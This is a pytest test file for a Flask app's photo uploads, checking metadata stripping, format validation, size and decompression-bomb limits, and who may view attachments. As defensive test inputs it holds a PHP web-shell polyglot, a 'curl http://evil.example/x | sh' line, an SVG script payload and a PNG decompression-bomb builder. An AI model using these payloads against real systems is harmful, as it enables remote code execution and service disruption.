"""Uploaded photos: only real images are kept, without metadata, shown only to those allowed."""

from __future__ import annotations

import hashlib
import io
import os
import struct
import time
import zlib
from pathlib import Path

import pytest
from flask_babel import force_locale
from PIL import Image, ImageCms, PngImagePlugin, TiffImagePlugin
from sqlalchemy import func, select
from sqlalchemy.exc import IntegrityError
from werkzeug.datastructures import FileStorage

from app.accounts.models import Role, User
from app.uploads.models import Attachment
from app.uploads.services import (
    UploadRejected,
    attachments_for,
    can_view,
    file_path,
    remove_orphans,
    store_image,
)
from tests.factories import SHUNDE, TIANHE, YUEXIU, UserFactory

GPS_IFD = 0x8825
ORIENTATION = 0x0112
MAKE = 0x010F


@pytest.fixture
def upload_dir(app, tmp_path, monkeypatch):
    directory = tmp_path / "uploads"
    monkeypatch.setitem(app.config, "UPLOAD_DIR", str(directory))
    return directory


@pytest.fixture
def uploader(session):
    return UserFactory()  # a donor sending proof of a delivery


def english(message: object) -> str:
    with force_locale("en"):
        return str(message)


def stored_files(directory: Path) -> list[Path]:
    return [p for p in directory.rglob("*") if p.is_file()] if directory.exists() else []


def attachment_count(session) -> int:
    return session.scalar(select(func.count()).select_from(Attachment))


def upload(data: bytes | io.IOBase, filename: str = "photo.jpg", content_type: str = "image/jpeg"):
    stream = io.BytesIO(data) if isinstance(data, bytes) else data
    return FileStorage(stream=stream, filename=filename, content_type=content_type)


def store(session, file, uploaded_by, district_code=TIANHE, owner_id=1):
    return store_image(
        session,
        file,
        owner_kind="claim",
        owner_id=owner_id,
        district_code=district_code,
        uploaded_by=uploaded_by,
    )


def jpeg_with_gps(size=(64, 48)) -> bytes:
    """A camera-like JPEG: maker, orientation "rotate 90 CW" and a GPS position."""
    image = Image.new("RGB", size, (200, 30, 30))
    image.paste((20, 20, 220), (0, 0, size[0] // 2, size[1]))  # left half blue
    exif = Image.Exif()
    exif[MAKE] = "PhoneMaker"
    exif[ORIENTATION] = 6
    gps = exif.get_ifd(GPS_IFD)
    rational = TiffImagePlugin.IFDRational
    gps[1] = "N"
    gps[2] = (rational(23), rational(7), rational(3012, 100))
    gps[3] = "E"
    gps[4] = (rational(113), rational(21), rational(4018, 100))
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", exif=exif, quality=95)
    return buffer.getvalue()


def png_bytes(mode="RGBA", text: str | None = None, icc_profile: bytes | None = None) -> bytes:
    image = Image.new(mode, (20, 10), (10, 120, 30, 128) if mode == "RGBA" else 7)
    info = PngImagePlugin.PngInfo()
    if text:
        info.add_text("Comment", text)
    extra = {"icc_profile": icc_profile} if icc_profile else {}
    buffer = io.BytesIO()
    image.save(buffer, "PNG", pnginfo=info, **extra)
    return buffer.getvalue()


def png_claiming(width: int, height: int) -> bytes:
    """A valid 1-bit PNG of ``width`` x ``height``: a few KB that decode to a huge image."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    row = b"\x00" * (1 + (width + 7) // 8)
    compressor = zlib.compressobj(9)
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")
    )


class EndlessZeros(io.RawIOBase):
    """A ``size``-byte upload that exists only as it is read; counts what was read."""

    def __init__(self, size: int) -> None:
        self.remaining = size
        self.served = 0

    def readable(self) -> bool:
        return True

    def readinto(self, buffer) -> int:
        n = min(len(buffer), self.remaining)
        buffer[:n] = b"\x00" * n
        self.remaining -= n
        self.served += n
        return n


# --- storing ---------------------------------------------------------------------------


def test_jpeg_is_stored_upright_without_exif_or_gps(session, upload_dir, uploader):
    original = jpeg_with_gps()
    with Image.open(io.BytesIO(original)) as check:  # the test photo really carries GPS
        assert check.getexif().get_ifd(GPS_IFD)[1] == "N"

    attachment = store(session, upload(original), uploader)

    path = file_path(attachment)
    assert path.parent == upload_dir.absolute() / attachment.stored_name[:2]
    data = path.read_bytes()
    assert attachment.content_type == "image/jpeg" and attachment.stored_name.endswith(".jpg")
    assert attachment.size_bytes == len(data)
    assert attachment.sha256 == hashlib.sha256(data).hexdigest()
    assert b"Exif" not in data and b"PhoneMaker" not in data
    with Image.open(path) as stored:
        assert stored.format == "JPEG"
        assert len(stored.getexif()) == 0
        assert "exif" not in stored.info and "icc_profile" not in stored.info
        # Orientation 6 applied: the 64x48 landscape is now a 48x64 portrait, blue on top.
        assert stored.size == (48, 64) == (attachment.width, attachment.height)
        top, bottom = stored.getpixel((24, 5)), stored.getpixel((24, 58))
        assert top[2] > 150 and bottom[0] > 150
    assert session.get(Attachment, attachment.id).uploaded_by_id == uploader.id


def test_png_is_stored_as_png_without_text_chunks_or_profile(session, upload_dir, uploader):
    # Pillow would copy a PNG's ICC profile into a re-save of the same image object; only
    # a fresh image drops it.
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    original = png_bytes(text="GPS 23.1,113.3 at home", icc_profile=icc)
    with Image.open(io.BytesIO(original)) as check:
        assert "icc_profile" in check.info and "Comment" in check.info
    attachment = store(session, upload(original, "receipt.png", "image/png"), uploader)

    data = file_path(attachment).read_bytes()
    assert attachment.content_type == "image/png" and attachment.stored_name.endswith(".png")
    assert b"23.1,113.3" not in data
    with Image.open(io.BytesIO(data)) as stored:
        assert stored.format == "PNG" and stored.mode == "RGBA"
        assert stored.size == (20, 10)
        assert stored.getpixel((0, 0)) == (10, 120, 30, 128)
        assert "Comment" not in stored.info and "icc_profile" not in stored.info


def test_webp_is_stored_as_webp(session, upload_dir, uploader):
    buffer = io.BytesIO()
    Image.new("RGB", (16, 16), (0, 128, 255)).save(buffer, "WEBP")
    attachment = store(session, upload(buffer.getvalue(), "x.webp", "image/webp"), uploader)
    assert attachment.content_type == "image/webp"
    with Image.open(file_path(attachment)) as stored:
        assert stored.format == "WEBP"


def test_the_declared_name_and_type_are_ignored(session, upload_dir, uploader):
    # A PNG sent as "photo.jpg" with a JPEG content type is stored as what it is.
    attachment = store(session, upload(png_bytes("L"), "photo.jpg", "image/jpeg"), uploader)
    assert attachment.content_type == "image/png" and attachment.stored_name.endswith(".png")


def test_bytes_hidden_after_the_image_are_dropped(session, upload_dir, uploader):
    polyglot = jpeg_with_gps() + b"<?php system($_GET['c']); ?>"
    attachment = store(session, upload(polyglot), uploader)
    assert b"<?php" not in file_path(attachment).read_bytes()


def assert_nothing_stored(session, upload_dir) -> None:
    assert attachment_count(session) == 0
    assert stored_files(upload_dir) == []


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"#!/bin/sh\ncurl http://evil.example/x | sh\n", "Only JPEG, PNG or WebP"),
        (b"", "Only JPEG, PNG or WebP"),
        (b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", "Only JPEG, PNG or WebP"),
        (
            b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
            "Only JPEG, PNG or WebP",
        ),
    ],
    ids=["shell-script", "empty", "gif", "svg"],
)
def test_what_is_not_a_jpeg_png_or_webp_is_refused(session, upload_dir, uploader, data, message):
    with pytest.raises(UploadRejected) as refused:
        store(session, upload(data, "photo.jpg", "image/jpeg"), uploader)
    assert message in english(refused.value.message)
    assert refused.value.status == 422
    assert_nothing_stored(session, upload_dir)


def test_a_truncated_photo_is_refused(session, upload_dir, uploader):
    original = jpeg_with_gps(size=(400, 300))
    with pytest.raises(UploadRejected) as refused:
        store(session, upload(original[: len(original) // 2]), uploader)
    assert english(refused.value.message) == "This file is not a readable image."
    assert_nothing_stored(session, upload_dir)


def test_a_50_mb_upload_is_refused_after_reading_only_the_cap(app, session, upload_dir, uploader):
    cap = app.config["UPLOAD_MAX_BYTES"]
    stream = EndlessZeros(50 * 1024 * 1024)
    with pytest.raises(UploadRejected) as refused:
        store(session, upload(io.BufferedReader(stream, buffer_size=64 * 1024)), uploader)
    assert english(refused.value.message) == f"The photo is larger than {cap // (1024 * 1024)} MB."
    assert stream.served <= cap + 64 * 1024  # read one byte past the cap, plus a buffer
    assert_nothing_stored(session, upload_dir)


def test_a_photo_at_the_byte_cap_is_read_whole(app, session, upload_dir, uploader, monkeypatch):
    original = jpeg_with_gps()
    monkeypatch.setitem(app.config, "UPLOAD_MAX_BYTES", len(original))
    assert store(session, upload(original), uploader).id
    monkeypatch.setitem(app.config, "UPLOAD_MAX_BYTES", len(original) - 1)
    with pytest.raises(UploadRejected):
        store(session, upload(original), uploader)


@pytest.mark.parametrize(
    ("width", "height"),
    [
        (20000, 20000),  # 400 MP: Pillow's own bomb error
        (8000, 6000),  # 48 MP: under Pillow's limit, over ours
    ],
)
def test_decompression_bombs_are_refused(session, upload_dir, uploader, width, height):
    bomb = png_claiming(width, height)
    assert len(bomb) < 100_000
    with pytest.raises(UploadRejected) as refused:
        store(session, upload(bomb, "tiny.png", "image/png"), uploader)
    assert "megapixels" in english(refused.value.message)
    assert_nothing_stored(session, upload_dir)


def test_a_failed_insert_leaves_no_file(session, upload_dir):
    never_saved = User(
        email="ghost@test.example", password_hash="x", display_name="x", role=Role.DONOR
    )  # no id: the row cannot be inserted
    with pytest.raises(IntegrityError):
        store(session, upload(jpeg_with_gps()), never_saved)
    session.rollback()
    assert_nothing_stored(session, upload_dir)


def test_attachments_for_lists_one_owners_photos_in_order(session, upload_dir, uploader):
    first = store(session, upload(jpeg_with_gps()), uploader, owner_id=7)
    second = store(session, upload(png_bytes()), uploader, owner_id=7)
    store(session, upload(png_bytes()), uploader, owner_id=8)
    assert attachments_for(session, "claim", 7) == [first, second]
    assert attachments_for(session, "donation", 7) == []


def test_remove_orphans_deletes_only_old_unreferenced_files(session, upload_dir, uploader):
    kept = file_path(store(session, upload(jpeg_with_gps()), uploader))
    folder = kept.parent
    orphan = folder / ("ab" * 16 + ".jpg")
    fresh_orphan = folder / ("cd" * 16 + ".png")
    half_written = folder / ".tmp1234.part"
    unrelated = folder / "README.txt"
    for path in (orphan, fresh_orphan, half_written, unrelated):
        path.write_bytes(b"x")
    two_hours_ago = time.time() - 7200
    for path in (kept, orphan, half_written, unrelated):
        os.utime(path, (two_hours_ago, two_hours_ago))

    assert remove_orphans(session) == 2

    assert sorted(p.name for p in stored_files(upload_dir)) == sorted(
        [kept.name, fresh_orphan.name, unrelated.name]
    )


def test_remove_orphans_without_an_upload_dir(session, upload_dir):
    assert remove_orphans(session) == 0


# --- who may see a photo ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("viewer", "allowed"),
    [
        ("uploader", True),
        ("caseworker of the district", True),
        ("verifier of the city", True),
        ("admin", True),
        ("caseworker of another district", False),
        ("verifier of another city", False),
        ("another donor", False),
        ("inactive uploader", False),
    ],
)
def test_can_view(session, upload_dir, uploader, viewer, allowed):
    attachment = store(session, upload(png_bytes()), uploader, district_code=TIANHE)
    if viewer == "inactive uploader":
        uploader.is_active_account = False
    users = {
        "uploader": uploader,
        "inactive uploader": uploader,
        "caseworker of the district": lambda: UserFactory(caseworker=True, area_code=TIANHE),
        "verifier of the city": lambda: UserFactory(verifier=True, area_code="440100"),
        "admin": lambda: UserFactory(admin=True),
        "caseworker of another district": lambda: UserFactory(caseworker=True, area_code=YUEXIU),
        "verifier of another city": lambda: UserFactory(verifier=True, area_code=SHUNDE[:4] + "00"),
        "another donor": UserFactory,
    }
    user = users[viewer]
    user = user if isinstance(user, User) else user()
    assert can_view(attachment, user) is allowed


def test_the_public_cannot_view(session, upload_dir, uploader):
    from flask_login import AnonymousUserMixin

    attachment = store(session, upload(png_bytes()), uploader)
    assert can_view(attachment, AnonymousUserMixin()) is False
    assert can_view(attachment, None) is False


@pytest.fixture
def proof(session, upload_dir, uploader):
    """A photo a donor uploaded for a need in Tianhe, and the people around it."""
    attachment = store(session, upload(jpeg_with_gps()), uploader, district_code=TIANHE)
    people = {
        "uploader": uploader,
        "caseworker": UserFactory(caseworker=True, area_code=TIANHE),
        "other caseworker": UserFactory(caseworker=True, area_code=YUEXIU),
        "donor": UserFactory(),
    }
    return attachment, people


@pytest.mark.parametrize(
    ("who", "status"),
    [("uploader", 200), ("caseworker", 200), ("other caseworker", 403), ("donor", 403)],
)
def test_the_view_checks_who_may_see(client, auth, proof, who, status):
    attachment, people = proof
    auth.login(people[who])
    response = client.get(f"/attachments/{attachment.id}", buffered=True)
    assert response.status_code == status
    if status == 403:
        assert b"\xff\xd8" not in response.data  # no JPEG bytes on the error page


def test_anonymous_visitors_are_sent_to_sign_in(client, proof):
    attachment, _ = proof
    response = client.get(f"/attachments/{attachment.id}", buffered=True)
    assert response.status_code == 302
    assert "/login" in response.headers["Location"]


def test_the_view_sends_the_photo_with_safe_headers(client, auth, proof):
    attachment, people = proof
    expected = file_path(attachment).read_bytes()
    auth.login(people["uploader"])

    response = client.get(f"/attachments/{attachment.id}", buffered=True)

    assert response.status_code == 200
    assert response.data == expected
    assert hashlib.sha256(response.data).hexdigest() == attachment.sha256
    assert response.mimetype == "image/jpeg"
    assert response.headers["Cache-Control"] == "private, no-store"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Content-Disposition"] == (
        f"inline; filename=attachment-{attachment.id}.jpg"
    )


def test_the_view_404s_for_unknown_ids_and_missing_files(client, auth, proof):
    attachment, people = proof
    auth.login(people["caseworker"])
    assert client.get(f"/attachments/{attachment.id + 1000}").status_code == 404
    file_path(attachment).unlink()
    assert client.get(f"/attachments/{attachment.id}", buffered=True).status_code == 404


def test_a_request_over_the_whole_request_cap_gets_413(app, client):
    too_big = app.config["MAX_CONTENT_LENGTH"] + 1
    response = client.post(
        "/login",
        data=b"",  # the declared length alone must be refused, before any byte is read
        content_type="multipart/form-data; boundary=x",
        environ_overrides={"CONTENT_LENGTH": str(too_big)},
        headers={"Accept-Language": "en"},
    )
    assert response.status_code == 413
    assert "The upload is too large (at most" in response.get_data(as_text=True)
